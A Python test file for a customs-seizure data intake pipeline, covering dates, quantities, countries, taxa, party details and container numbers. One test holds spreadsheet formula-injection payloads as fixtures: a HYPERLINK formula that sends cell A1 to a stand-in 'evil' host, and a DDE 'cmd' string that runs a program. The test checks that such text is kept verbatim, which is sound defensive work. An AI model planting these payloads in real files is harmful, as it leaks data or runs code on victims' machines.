"""Vectorised validation: dates, numbers, enums, references, text hygiene; and parser properties."""

from __future__ import annotations

import datetime as dt
from typing import Any

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from dragonnet.domain.quantity import parse_number
from dragonnet.errors import ValidationError
from dragonnet.intake.normalise import (
    LARGE_FRAME_ROWS,
    date_column,
    normalise_items,
    normalise_parties,
    parse_date,
    parse_quantity_value,
)

TODAY = dt.date(2024, 1, 15)
BASE = {
    "case_ref": "C1", "reporting_agency": "VN-CUS", "seizure_date": "2023-06-01", "place_country": "VN",
    "commodity_class": "drug", "substance": "heroin", "quantity": "1", "unit": "kg",
}  # fmt: skip


def run(rows: list[dict[str, Any]], *, day_first: bool = False) -> tuple[pl.DataFrame, list[dict[str, Any]]]:
    records = [{**BASE, **r} for r in rows]
    columns = sorted({k for r in records for k in r})
    frame = pl.DataFrame(
        {c: [r.get(c) for r in records] for c in columns} | {"_row": list(range(2, len(records) + 2))},
        schema={**dict.fromkeys(columns, pl.String), "_row": pl.Int64},
    )
    result = normalise_items(frame, day_first=day_first, today=TODAY)
    return result.frame, result.errors.to_dicts()


def frame_of(rows: list[dict[str, Any]]) -> pl.DataFrame:
    records = [{**BASE, **r} for r in rows]
    columns = sorted({k for r in records for k in r})
    return pl.DataFrame(
        {c: [r.get(c) for r in records] for c in columns} | {"_row": list(range(2, len(records) + 2))},
        schema={**dict.fromkeys(columns, pl.String), "_row": pl.Int64},
    )


def reasons(errors: list[dict[str, Any]], column: str) -> list[str]:
    return [e["reason"] for e in errors if e["column"] == column]


def test_dates_iso_and_day_first() -> None:
    rows = [{"case_ref": f"C{i}", "seizure_date": d} for i, d in enumerate(["2023-06-01", "01/06/2023", "1.6.2023"])]
    frame, errors = run(rows, day_first=True)
    assert not errors
    assert frame["seizure_date"].to_list() == [dt.date(2023, 6, 1)] * 3
    _, errors = run([{"seizure_date": "01/06/2023"}])
    assert "day-first" in reasons(errors, "seizure_date")[0]


@pytest.mark.parametrize(
    ("text", "reason"),
    [("2023-02-30", "impossible date"), ("2025-01-01", "date in the future"), ("yesterday", "not a date"),
     ("1066-10-14", "implausible date")],
)  # fmt: skip
def test_bad_dates(text: str, reason: str) -> None:
    _, errors = run([{"seizure_date": text}])
    assert reason in reasons(errors, "seizure_date")[0]


def test_quantities_decimal_commas_and_mass() -> None:
    rows = [
        {"case_ref": "A", "quantity": "1,5", "unit": "kg"},
        {"case_ref": "B", "quantity": "1.250,5", "unit": "g"},
        {"case_ref": "C", "quantity": "3 200", "unit": "tablets"},
        {"case_ref": "D", "quantity": "2", "unit": "tấn"},
    ]
    frame, errors = run(rows)
    assert not errors
    assert frame["quantity"].to_list() == [1.5, 1250.5, 3200.0, 2.0]
    assert frame["mass_kg"].to_list() == [1.5, pytest.approx(1.2505), None, 2000.0]
    assert frame["unit"].to_list() == ["kg", "g", "tablets", "t"]
    assert frame["quantity_text"].to_list() == ["1,5", "1.250,5", "3 200", "2"]


@pytest.mark.parametrize(
    ("quantity", "unit", "column", "reason"),
    [("-3", "kg", "quantity", "positive"), ("0", "kg", "quantity", "positive"),
     ("lots", "kg", "quantity", "not a number"), ("5000000", "kg", "quantity", "implausibly large"),
     ("1", "bags", "unit", "unknown unit")],
)  # fmt: skip
def test_bad_quantities(quantity: str, unit: str, column: str, reason: str) -> None:
    _, errors = run([{"quantity": quantity, "unit": unit}])
    assert reason in reasons(errors, column)[0]


def test_enums_accept_labels_and_synonyms() -> None:
    rows = [
        {"case_ref": "A", "transport_mode": "Air cargo", "direction": "nhập khẩu", "detection_method": "X-ray",
         "sharing_level": "TLP:GREEN", "commodity_class": "Drugs"},
        {"case_ref": "B", "transport_mode": "truck", "direction": "进口", "detection_method": "K9",
         "sharing_level": "white", "commodity_class": "毒品"},
    ]  # fmt: skip
    frame, errors = run(rows)
    assert not errors
    assert frame["transport_mode"].to_list() == ["air_cargo", "road"]
    assert frame["direction"].to_list() == ["import", "import"]
    assert frame["detection_method"].to_list() == ["scanner", "detector_dog"]
    assert frame["sharing_level"].to_list() == ["green", "clear"]
    _, errors = run([{"transport_mode": "air carg0"}])
    error = next(e for e in errors if e["column"] == "transport_mode")
    assert "not an accepted value" in error["reason"] and error["suggestion"] == "air_cargo"


def test_sharing_level_defaults_later_and_arrests_are_whole_numbers() -> None:
    frame, errors = run([{"arrests": "2"}, {"case_ref": "B", "arrests": "two"}])
    assert frame["sharing_level"][0] is None  # the importer applies the default (amber)
    assert reasons(errors, "arrests") == ["not a whole number"]


def test_countries_any_language_and_transit_in_order() -> None:
    frame, errors = run([{"place_country": "Việt Nam", "origin_country": "老挝", "transit_countries": "Laos; Thaïlande",
                          "destination_country": "Hong Kong"}])  # fmt: skip
    assert not errors
    row = frame.row(0, named=True)
    assert (row["place_country"], row["origin_country"], row["destination_country"]) == ("VN", "LA", "HK")
    assert row["transit_countries"] == ["LA", "TH"]
    _, errors = run([{"place_country": "Atlantis"}])
    assert reasons(errors, "place_country") == ["unknown country 'Atlantis'"]


def test_places_by_locode_or_name() -> None:
    frame, errors = run([{"place_locode": "vn hph"}, {"case_ref": "B", "place_name": "Noi Bai"},
                         {"case_ref": "C", "place_name": "warehouse near the river"}])  # fmt: skip
    assert not errors
    assert frame["place_locode"].to_list() == ["VNHPH", "VNHAN", None]
    assert frame["place_name"][2] == "warehouse near the river"
    _, errors = run([{"place_locode": "THBKK"}])
    assert "is in TH, not in VN" in reasons(errors, "place_locode")[0]


def test_substance_and_taxon_resolved_keeping_the_officers_text() -> None:
    rows = [
        {"case_ref": "A", "substance": "ICE"},
        {"case_ref": "B", "commodity_class": "wildlife", "substance": None, "taxon": "pangolin scales"},
        {"case_ref": "C", "commodity_class": "wildlife", "substance": None, "taxon": "Manis javanika"},
    ]
    frame, errors = run(rows)
    assert not errors
    assert frame["substance"].to_list()[0] == "methamphetamine"
    assert frame["substance_text"].to_list()[0] == "ICE"
    assert frame["substance_control"][0].startswith("1971")
    assert frame["taxon"].to_list()[1:] == ["Manis", "Manis javanica"]
    assert frame["cites_appendix"].to_list()[1:] == ["I/II", "I"]
    assert frame["specimen_type"][1] == "scales"
    assert frame["taxon_text"][2] == "Manis javanika"


def test_unknown_taxon_is_kept_as_unverified_and_only_an_empty_taxon_is_an_error() -> None:
    rows = [
        {"case_ref": "A", "commodity_class": "wildlife", "substance": None, "taxon": "Pangolinus fakeus"},
        {"case_ref": "B", "commodity_class": "timber", "substance": None},
        {"case_ref": "C", "substance": None},
    ]
    result = normalise_items(frame_of(rows), today=TODAY)
    errors = result.errors.to_dicts()
    taxon = [e for e in errors if e["column"] == "taxon"]
    assert [(e["row"], e["reason"]) for e in taxon] == [(3, "required for wildlife and timber")]
    assert reasons(errors, "substance") == ["required for drugs and precursors"]
    row = result.frame.row(0, named=True)
    assert (row["taxon_text"], row["taxon"], row["taxon_status"]) == ("Pangolinus fakeus", None, "unverified")
    (warning,) = [w for w in result.warnings.to_dicts() if w["column"] == "taxon"]
    assert warning["row"] == 2 and warning["value"] == "Pangolinus fakeus"
    assert "unknown taxon 'Pangolinus fakeus'" in warning["reason"] and "unverified" in warning["reason"]
    review = result.review.to_dicts()
    assert [(r["kind"], r["text"], r["status"], r["rows"]) for r in review] == [
        ("taxon", "Pangolinus fakeus", "unresolved", 1)
    ]


def test_case_level_columns_fill_down_and_must_agree() -> None:
    rows = [
        {"seizure_date": "2023-06-01"},
        {"seizure_date": None, "place_country": None},
        {"seizure_date": "2023-06-02"},
    ]
    frame, errors = run(rows)
    assert frame["seizure_date"][1] == dt.date(2023, 6, 1)
    assert [(e["row"], e["column"]) for e in errors] == [(4, "seizure_date")]
    assert "differs from the case's first row (2023-06-01)" in errors[0]["reason"]


def test_control_characters_and_overlong_cells_are_row_errors() -> None:
    rows = [
        {"case_ref": "A", "description": "line one\r\nline two\twith tab"},
        {"case_ref": "B", "description": "bell\x07"},
        {"case_ref": "C", "description": "x" * 1_000_000},
        {"case_ref": "D" * 65},
    ]
    frame, errors = run(rows)
    assert frame["description"][0] == "line one\nline two\twith tab"
    assert [(e["row"], e["column"], e["reason"]) for e in errors] == [
        (3, "description", "contains control characters"),
        (4, "description", "text longer than 2000 characters"),
        (5, "case_ref", "text longer than 64 characters"),
    ]
    assert len(errors[1]["value"]) < 100


def test_cells_are_measured_in_characters_not_bytes_and_a_lone_crlf_is_folded() -> None:
    # 64 three-byte characters fit case_ref's 64; a column whose only control characters are CRLFs is folded.
    rows = [
        {"case_ref": "ắ" * 64, "concealment": "false floor\r\nof the truck"},
        {"case_ref": "ắ" * 65},
    ]
    frame, errors = run(rows)
    assert frame["concealment"][0] == "false floor\nof the truck"
    assert [(e["row"], e["column"], e["reason"]) for e in errors] == [
        (3, "case_ref", "text longer than 64 characters"),
    ]


def test_transit_lists_of_one_case_are_compared_as_lists() -> None:
    rows = [
        {"transit_countries": "TH;LA"},
        {"transit_countries": "Thailand; Laos"},  # the same countries, written otherwise
        {"transit_countries": "TH"},
    ]
    frame, errors = run(rows)
    assert frame["transit_countries"].to_list()[:2] == [["TH", "LA"], ["TH", "LA"]]
    assert [(e["row"], e["column"]) for e in errors] == [(4, "transit_countries")]
    assert "differs from the case's first row (TH;LA)" in errors[0]["reason"] and errors[0]["value"] == "TH"


DATE_TEXTS = ["2023-06-01", "2023/6/2", "2023-06-03T10:00", "18-Jan-09", "3 March 2011", "01/06/2023", "1.6.2023",
              "2023-02-30", "yesterday", "2025-01-01", "1066-10-14", None]  # fmt: skip
# Values read with a warning, a guess or an error beside plain ones, so that the readings' note columns are
# some empty and some not.
OTHER_CELLS = [{"substance": "ya ba", "transit_countries": "Thailand; Laos"}, {"substance": "unobtainium"},
               {"transit_countries": "Atlantis"}, {"place_country": "Viet Nam", "transport_mode": "by sea"},
               {"commodity_class": "wildlife", "taxon": "Manis javanica", "unit": "pieces"}]  # fmt: skip


@pytest.mark.parametrize("day_first", [False, True])
def test_a_large_file_normalises_each_row_as_it_would_alone(day_first: bool) -> None:
    # From LARGE_FRAME_ROWS rows on, dates are read once per distinct text and the readings' empty note columns
    # are placed beside the rows rather than joined: every row gets what it gets alone, errors included.
    variants = [{"seizure_date": t, **OTHER_CELLS[i % len(OTHER_CELLS)]} for i, t in enumerate(DATE_TEXTS)]
    alone = []
    for cells in variants:
        frame, errors = run([cells], day_first=day_first)
        alone.append(({k: v for k, v in frame.row(0, named=True).items() if k not in ("case_ref", "_row")},
                      sorted((e["column"], e["reason"]) for e in errors)))  # fmt: skip
    count = LARGE_FRAME_ROWS + 7
    rows = [{"case_ref": f"C{i}", **variants[i % len(variants)]} for i in range(count)]
    frame, errors = run(rows, day_first=day_first)
    by_row: dict[int, list[tuple[str, str]]] = {}
    for e in errors:
        by_row.setdefault(e["row"], []).append((e["column"], e["reason"]))
    for i, row in enumerate(frame.iter_rows(named=True)):
        got = ({k: v for k, v in row.items() if k not in ("case_ref", "_row")}, sorted(by_row.get(i + 2, [])))
        assert got == alone[i % len(variants)], f"row {i + 2}"


@settings(max_examples=50, deadline=None)
@given(st.lists(st.one_of(st.none(), st.text(max_size=14), st.dates().map(lambda d: d.strftime("%d-%b-%Y")),
                          st.dates().map(lambda d: d.strftime("%d/%m/%Y"))), min_size=1, max_size=20),
       st.booleans())  # fmt: skip
def test_dates_read_per_distinct_value_equal_dates_read_per_row(texts: list[str | None], day_first: bool) -> None:
    from dragonnet.intake.normalise import _dates_read

    rows = (texts * (LARGE_FRAME_ROWS // len(texts) + 1))[:LARGE_FRAME_ROWS]
    frame = pl.DataFrame({"d": rows}, schema={"d": pl.String})
    per_row = frame.select(date_column("d", day_first=day_first)).to_series()
    assert frame.select(_dates_read(frame, "d", day_first=day_first)).to_series().equals(per_row)


def test_formula_injection_text_is_kept_verbatim() -> None:
    payload = '=HYPERLINK("http://evil/?"&A1,"click")'
    frame, errors = run([{"description": payload, "case_ref": "+cmd|' /C calc'!A0"}])
    assert not errors
    assert frame["description"][0] == payload and frame["case_ref"][0] == "+cmd|' /C calc'!A0"


def test_parties_phone_email_and_enums() -> None:
    frame = pl.DataFrame(
        {
            "case_ref": ["C1", "C1"], "reporting_agency": ["VN-CUS", "VN-CUS"], "name": ["Nguyễn Văn A", "ACME Ltd"],
            "role": ["người vận chuyển", "consignee"], "kind": [None, "công ty"], "nationality": ["Việt Nam", None],
            "phone": ["0912 345 678", "n/a"], "email": ["A@Example.COM", "not-an-email"],
            "birth_date": ["1990-02-03", None], "_row": [2, 3],
        },
        schema_overrides={"_row": pl.Int64},
    )  # fmt: skip
    result = normalise_parties(frame, today=TODAY, default_region="VN")
    row = result.frame.row(0, named=True)
    assert (row["role"], row["kind"], row["nationality"]) == ("courier", "person", "VN")
    assert row["phone_e164"] == "+84912345678" and row["email_normalised"] == "a@example.com"
    assert result.frame["kind"][1] == "company" and result.frame["phone_e164"][1] is None
    assert [e["column"] for e in result.errors.to_dicts()] == ["email"]


# --- properties of the parsers -------------------------------------------------------------------------


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=30))
def test_number_parser_raises_only_declared_errors(text: str) -> None:
    try:
        value = parse_quantity_value(text)
    except ValidationError:
        return
    assert isinstance(value, float)


@settings(max_examples=300, deadline=None)
@given(st.from_regex(r"\A[+-]?\d{1,7}([.,]\d{1,4})?\Z") | st.from_regex(r"\A\d{1,3}([ .,]\d{3}){1,3}([.,]\d{1,2})?\Z"))
def test_vectorised_numbers_agree_with_the_domain_parser(text: str) -> None:
    try:
        expected: float | None = parse_number(text)
    except ValidationError:
        expected = None
    try:
        got: float | None = parse_quantity_value(text)
    except ValidationError:
        got = None
    assert got == expected


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=30), st.booleans())
def test_date_parser_raises_only_declared_errors(text: str, day_first: bool) -> None:
    try:
        value = parse_date(text, day_first=day_first, today=TODAY)
    except ValidationError:
        return
    assert dt.date(1900, 1, 1) <= value <= TODAY


@settings(max_examples=200, deadline=None)
@given(st.dates(min_value=dt.date(1900, 1, 1), max_value=TODAY), st.booleans())
def test_dates_round_trip(day: dt.date, day_first: bool) -> None:
    assert parse_date(day.isoformat(), day_first=day_first, today=TODAY) == day
    if day_first:
        assert parse_date(day.strftime("%d/%m/%Y"), day_first=True, today=TODAY) == day
    # a spreadsheet's default display: the month by its English name, whatever the locale
    assert parse_date(day.strftime("%d-%b-%Y"), day_first=day_first, today=TODAY) == day
    assert parse_date(day.strftime("%d %B %Y"), day_first=day_first, today=TODAY) == day
    if day.year >= 1970:
        assert parse_date(day.strftime("%d-%b-%y"), day_first=day_first, today=TODAY) == day


@pytest.mark.parametrize(
    ("text", "reason"),
    [("30-Feb-09", "impossible date"), ("18-Foo-09", "impossible date"), ("1-Jan-60", "date in the future")],
)
def test_dates_with_a_month_name_that_are_refused(text: str, reason: str) -> None:
    with pytest.raises(ValidationError, match=reason):
        parse_date(text, today=TODAY)


@settings(max_examples=100, deadline=None)
@given(st.lists(st.text(max_size=12), min_size=1, max_size=8))
def test_normalise_never_crashes_on_arbitrary_cells(cells: list[str]) -> None:
    rows = [{"case_ref": c, "quantity": c, "unit": c, "seizure_date": c, "place_country": c, "taxon": c,
             "transport_mode": c, "arrests": c} for c in cells]  # fmt: skip
    run(rows)


def test_guessed_readings_are_warnings_with_the_stored_value() -> None:
    rows = [
        {"case_ref": "A", "commodity_class": "wildlife", "substance": None, "taxon": "Manis javanika"},
        {"case_ref": "B", "commodity_class": "wildlife", "substance": None, "taxon": "Manis javanica"},
        {"case_ref": "C", "substance": "heroinn"},
        {"case_ref": "D", "substance": "ICE"},
    ]
    records = [{**BASE, **r} for r in rows]
    columns = sorted({k for r in records for k in r})
    frame = pl.DataFrame(
        {c: [r.get(c) for r in records] for c in columns} | {"_row": list(range(2, len(records) + 2))},
        schema={**dict.fromkeys(columns, pl.String), "_row": pl.Int64},
    )
    result = normalise_items(frame, today=TODAY)
    assert result.errors.height == 0, result.errors.to_dicts()
    warnings = {(w["row"], w["column"]): w for w in result.warnings.to_dicts()}
    # exact names, synonyms and street names are not guesses; misspellings are
    assert set(warnings) == {(2, "taxon"), (4, "substance")}
    assert warnings[(2, "taxon")]["value"] == "Manis javanika"
    assert warnings[(2, "taxon")]["suggestion"] == "Manis javanica"
    assert "the closest name" in warnings[(2, "taxon")]["reason"]
    assert warnings[(4, "substance")]["suggestion"] == result.frame["substance"][2]


@pytest.mark.parametrize(
    ("klass", "substance", "expected"),
    [("drug", "ephedrine", "precursor"), ("precursor", "heroin", "drug"), ("drug", "ya ba", None),
     ("precursor", "acetic anhydride", None)],
)  # fmt: skip
def test_a_substance_must_match_its_commodity_class(klass: str, substance: str, expected: str | None) -> None:
    _, errors = run([{"commodity_class": klass, "substance": substance}])
    wrong = [e for e in errors if e["column"] == "commodity_class"]
    if expected is None:
        assert not errors
    else:
        assert [(e["value"], e["suggestion"]) for e in wrong] == [(klass, expected)]
        assert f"is a {expected}" in wrong[0]["reason"] and f"not a {klass}" in wrong[0]["reason"]


# --- conveyance references: the one container rule, column-wise (`_conveyance_errors`) ---------------------------

_OWNER = st.text(alphabet="ABCDEFGHIJKLMNOPQRSTUVWXYZabcxyz", min_size=3, max_size=3)


@st.composite
def _containers(draw: st.DrawFn) -> str:
    """Container numbers as officers write them: valid ones, a wrong digit or category, separators, lower case."""
    from dragonnet.domain.identifiers import iso6346_check_digit

    first10 = draw(_OWNER) + draw(st.sampled_from("UJZRu")) + draw(st.text(alphabet="0123456789", min_size=6,
                                                                              max_size=6))  # fmt: skip
    digit = iso6346_check_digit(first10) if first10[3].upper() in "UJZ" else draw(st.integers(0, 9))
    digit = draw(st.sampled_from([digit, digit, (digit + 1) % 10]))
    text = first10 + str(digit)
    sep = draw(st.sampled_from(["", " ", "-", ".", "/", "\t", "\u3000", "\x1c"]))
    return text[:4] + sep + text[4:10] + sep + text[10:]


# Fixed cases besides the drawn ones: a remainder of 10 (check digit 0), its neighbour, a wrong category, full
# width, a separator Python's \\s reads as space and Polars' does not, free text.
CONVEYANCE_CASES = ["MSCU0000060", "MSCU 000006 1", "MSCR0000060", "ＭＳＣＵ０００００６０", "MSCU\x1c000006\x1c0",
                    "CSQU 305438 3", "csqu-305438-3", "VN-A321 flight 123", "ABCD1234567", ""]  # fmt: skip


@settings(max_examples=60, deadline=None)
@given(st.lists(st.one_of(_containers(), st.text(max_size=14), st.sampled_from(["VN123", "ＭＳＣＵ１２３４５６５"])),
                min_size=1, max_size=40))  # fmt: skip
def test_conveyance_errors_column_wise_equal_the_rule(values: list[str]) -> None:
    from dragonnet.domain.identifiers import conveyance_problem
    from dragonnet.intake.normalise import _conveyance_errors

    values = [*CONVEYANCE_CASES, *values]
    frame = pl.DataFrame({"conveyance_ref": [*values, None]}, schema={"conveyance_ref": pl.String})
    found = _conveyance_errors(frame).get_column("cv_err").to_list()
    assert found == [conveyance_problem(v) for v in values] + [None]
